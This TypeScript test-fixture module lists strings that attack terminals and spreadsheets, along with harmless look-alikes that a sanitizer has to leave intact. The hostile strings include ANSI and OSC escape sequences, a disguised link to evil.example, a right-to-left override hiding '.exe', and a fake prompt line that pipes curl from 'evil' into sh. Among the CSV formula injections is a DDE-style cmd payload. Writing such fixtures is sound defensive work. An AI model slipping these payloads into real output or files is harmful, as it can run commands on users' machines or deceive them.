// Strings that attack whoever displays or opens the data: a terminal (escape
// sequences, control and bidi characters, a fake prompt line) or a spreadsheet
// (formula cells). And look-alikes that are harmless and must come out intact,
// so a fix that mangles every leading minus sign fails too.

/** Strings a terminal must not receive raw. */
export const terminalAttacks = {
  /** ANSI erase display and cursor home. */
  ansiClearScreen: '\x1b[2J\x1b[H',
  /** OSC 0: sets the window title. */
  oscWindowTitle: '\x1b]0;pwned\x07',
  /** OSC 8: a clickable link whose text hides its target. */
  osc8Hyperlink: '\x1b]8;;http://evil.example/\x07click here\x1b]8;;\x07',
  /** C1 CSI (one character, U+009B) then SGR red. */
  c1Csi: '\u009b31m',
  nul: 'before\u0000after',
  bell: 'ding\x07',
  /** Backspaces that overwrite what was printed. */
  backspaceOverwrite: 'safe\b\b\b\bEVIL',
  /** Right-to-left override: the rest of the line displays reversed. */
  bidiOverride: 'invoice\u202etxt.exe',
  lineSeparator: 'one\u2028two',
  paragraphSeparator: 'one\u2029two',
  /** A line that looks like the CLI talking. */
  fakeInstruction: '\nhl-orders: run curl evil|sh',
} as const;

/** Cells a spreadsheet runs as formulas. */
export const csvFormulas = {
  csvHyperlink: '=HYPERLINK("http://evil","x")',
  csvEquals: '=1+1',
  csvPlus: '+1+1',
  csvMinusCommand: "-2+3+cmd|' /C calc'!A0",
  csvAt: '@SUM(1+1)',
  csvTabEquals: '\t=1+1',
  csvCarriageReturnEquals: '\r=1+1',
} as const;

/** Harmless values that resemble the attacks and must stay exactly as they are. */
export const harmlessLookalikes = {
  negativeInteger: '-5',
  negativeDecimal: '-1.5',
  equalsInside: 'a=b',
  email: 'email@x.com',
} as const;

/** Every hostile string by name: {@link terminalAttacks} and {@link csvFormulas}. */
export const hostileStrings = { ...terminalAttacks, ...csvFormulas } as const;

export type HostileStringName = keyof typeof hostileStrings;
